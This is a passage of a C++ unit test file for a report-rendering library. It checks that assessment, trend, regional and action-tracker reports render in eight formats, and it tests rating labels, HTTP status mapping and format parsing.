    for (const auto& sheet : c.sheets) EXPECT_THAT(workbook, HasSubstr("name=\"" + sheet + "\""));
  }
  std::string path = Save(MustRender(testing::SampleActionTracker(), v1::FORMAT_XLSX).content);
  auto cells = Cells(path, "xl/worksheets/sheet1.xml");
  EXPECT_EQ(cells["F2"].value, "Agree the plan, with <b>children</b>, \"quickly\"");
  EXPECT_EQ(cells.count("A4"), 0u) << "each action once";
}

// ---- Every report, every format ----

template <typename Report>
void ExpectEveryFormat(const Report& report, const std::string& stem) {
  for (v1::Format format : {v1::FORMAT_JSON, v1::FORMAT_CSV, v1::FORMAT_HTML, v1::FORMAT_MARKDOWN,
                            v1::FORMAT_XLSX, v1::FORMAT_TEXT, v1::FORMAT_PDF, v1::FORMAT_DOCX}) {
    SCOPED_TRACE(v1::Format_Name(format));
    absl::StatusOr<Rendered> r = Render(report, format);
    ASSERT_THAT(r, IsOk());
    EXPECT_FALSE(r->content.empty());
    EXPECT_FALSE(r->content_type.empty());
    EXPECT_EQ(r->filename, absl::StrCat(stem, ".", FormatExtension(format)));
  }
  EXPECT_THAT(Render(report, static_cast<v1::Format>(99)),
              StatusIs(absl::StatusCode::kInvalidArgument));
  // An empty message renders too.
  for (v1::Format format : {v1::FORMAT_JSON, v1::FORMAT_CSV, v1::FORMAT_HTML, v1::FORMAT_MARKDOWN,
                            v1::FORMAT_XLSX, v1::FORMAT_TEXT, v1::FORMAT_PDF, v1::FORMAT_DOCX}) {
    EXPECT_THAT(Render(Report(), format), IsOk()) << v1::Format_Name(format);
  }
}

TEST(Render, EveryReportInEveryFormat) {
  ExpectEveryFormat(testing::SampleAssessmentReport(), "assessment-a-0123456789abcdef");
  ExpectEveryFormat(testing::SamplePartnershipTrend(), "trend-sunderland-independent_scrutiny");
  ExpectEveryFormat(testing::SampleRegionalOverview(), "region-north-east");
  ExpectEveryFormat(testing::SampleActionTracker(), "actions-partnerships-sunderland");
  ExpectEveryFormat(testing::SampleAnnualReportSection(), "annual-report-a-0123456789abcdef");
}

TEST(Render, RatingNamesAndLetters) {
  EXPECT_EQ(RatingName(framework::v1::RATING_RED), "Red");
  EXPECT_EQ(RatingName(framework::v1::RATING_UNSPECIFIED), "Not rated");
  EXPECT_EQ(RatingLetter(framework::v1::RATING_AMBER), "A");
  EXPECT_EQ(RatingLetter(framework::v1::RATING_UNSPECIFIED), "-");
}

// ---- HTTP mapping (pure parts of the endpoint) ----

TEST(HttpMapping, StatusCodes) {
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kOk), 200);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kInvalidArgument), 400);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kUnauthenticated), 401);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kPermissionDenied), 403);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kNotFound), 404);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kDeadlineExceeded), 504);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kUnavailable), 503);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kInternal), 500);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kFailedPrecondition), 400);
  EXPECT_EQ(HttpStatusFor(absl::StatusCode::kResourceExhausted), 429);
}

TEST(HttpMapping, Formats) {
  EXPECT_EQ(*ParseFormat(""), v1::FORMAT_JSON);
  EXPECT_EQ(*ParseFormat("json"), v1::FORMAT_JSON);
  EXPECT_EQ(*ParseFormat("CSV"), v1::FORMAT_CSV);
  EXPECT_EQ(*ParseFormat("md"), v1::FORMAT_MARKDOWN);
  EXPECT_EQ(*ParseFormat("xlsx"), v1::FORMAT_XLSX);
  EXPECT_EQ(*ParseFormat("html"), v1::FORMAT_HTML);
  EXPECT_EQ(*ParseFormat("text"), v1::FORMAT_TEXT);
  EXPECT_EQ(*ParseFormat("pdf"), v1::FORMAT_PDF);
  EXPECT_EQ(*ParseFormat("DOCX"), v1::FORMAT_DOCX);
  EXPECT_THAT(ParseFormat("odt"), StatusIs(absl::StatusCode::kInvalidArgument));
}

}  // namespace
}  // namespace sixsteps::reporting
